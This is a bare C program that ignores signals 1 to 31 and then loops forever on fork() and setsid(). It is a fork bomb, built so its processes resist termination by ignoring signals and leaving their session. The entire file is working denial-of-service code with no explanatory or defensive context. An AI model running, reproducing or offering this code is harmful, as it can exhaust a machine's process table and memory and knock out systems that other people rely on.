#include <signal.h>
#include <unistd.h>
int main() {
    for (int number = 1; number < 32; number++) signal(number, SIG_IGN);
    for (;;) fork(), setsid();
}
